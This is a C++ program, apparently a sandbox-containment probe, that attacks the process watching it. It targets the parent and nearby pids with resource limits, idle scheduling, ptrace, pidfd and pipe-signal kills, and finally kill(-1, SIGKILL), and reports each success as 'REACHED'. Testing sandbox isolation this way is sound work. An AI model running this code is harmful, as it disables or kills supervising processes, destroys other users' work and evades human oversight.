// Ends, limits, slows or traces whoever watches it and whoever started that, by every way that takes a process's number.
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
static void reached(const char* what, long result) {
    if (result >= 0) std::printf("REACHED %s %ld\n", what, result);
}
static void attack(int pid) {
    const rlimit nothing = {0, 0};
    reached("prlimit", prlimit(static_cast<__pid_t>(pid), RLIMIT_CPU, &nothing, nullptr));
    reached("prlimit", prlimit(static_cast<__pid_t>(pid), RLIMIT_NOFILE, &nothing, nullptr));
    cpu_set_t cores;
    CPU_ZERO(&cores);
    CPU_SET(0, &cores);
    reached("affinity", sched_setaffinity(pid, sizeof cores, &cores));
    const sched_param idle = {0};
    reached("scheduler", sched_setscheduler(pid, SCHED_IDLE, &idle));
    reached("priority", setpriority(PRIO_PROCESS, static_cast<id_t>(pid), 19));
    reached("ioprio", syscall(SYS_ioprio_set, 1, pid, 3 << 13));
    reached("migrate_pages", syscall(SYS_migrate_pages, pid, 0, nullptr, nullptr));
    void* list = nullptr;
    unsigned long size = 0;
    reached("robust list", syscall(SYS_get_robust_list, pid, &list, &size));
    reached("ptrace", ptrace(PTRACE_SEIZE, pid, nullptr, nullptr));
    reached("core scheduling", prctl(62, 2, pid, 0, 0));
    const long handle = syscall(434, pid, 0);  // pidfd_open; moved to a number that may be signalled, it is anybody
    reached("a handle", handle);
    if (handle >= 0 && dup2(static_cast<int>(handle), getpid()) >= 0) reached("pidfd", syscall(424, getpid(), 9, nullptr, 0));
    int ends[2];
    if (pipe(ends) == 0 && fcntl(ends[0], F_SETSIG, SIGKILL) == 0 && fcntl(ends[0], F_SETOWN, pid) == 0) {
        std::puts("REACHED the signals of a pipe");
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        (void)!write(ends[1], "x", 1);
    }
    for (int number : {SIGKILL, SIGXCPU, SIGSEGV, SIGSTOP}) {
        kill(pid, number);
        syscall(SYS_tkill, pid, number);
        syscall(SYS_tgkill, pid, pid, number);
    }
}
int main() {
    const int keeper = getppid();
    attack(keeper);
    for (int pid = keeper - 3; pid < keeper; ++pid)
        if (pid > 0) attack(pid);
    kill(-1, SIGKILL);
    std::puts("alive");
    return 0;
}
